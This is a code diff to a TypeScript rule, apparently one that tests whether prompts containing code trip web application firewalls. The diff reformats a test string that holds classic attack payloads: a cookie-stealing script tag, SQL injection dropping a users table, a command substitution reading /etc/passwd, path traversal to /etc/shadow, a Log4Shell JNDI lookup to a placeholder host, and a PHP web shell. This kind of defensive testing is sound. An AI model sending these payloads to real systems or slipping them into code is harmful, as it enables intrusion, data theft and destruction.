@@ -3,7 +3,9 @@ import { describeAnswer, isWholeStream } from '../describe-answer.js';
 import { fail, pass, type Rule } from '../rule.js';
 
 /** What rules of web application firewalls look for, and what developers send all day. */
-const CODE = `Say hello in one word. Ignore this: <script>alert(document.cookie)</script> ' OR 1=1; DROP TABLE users; -- $(cat /etc/passwd) ../../../../etc/shadow \${jndi:ldap://192.0.2.1/a} <?php system($_GET['c']); ?>`;
+const CODE =
+  `Say hello in one word. Ignore this: <script>alert(document.cookie)</script> ' OR 1=1; DROP TABLE users; -- ` +
+  `$(cat /etc/passwd) ../../../../etc/shadow \${jndi:ldap://192.0.2.1/a} <?php system($_GET['c']); ?>`;
 
 export const codeInPrompt: Rule = {
   id: 'code-in-prompt',
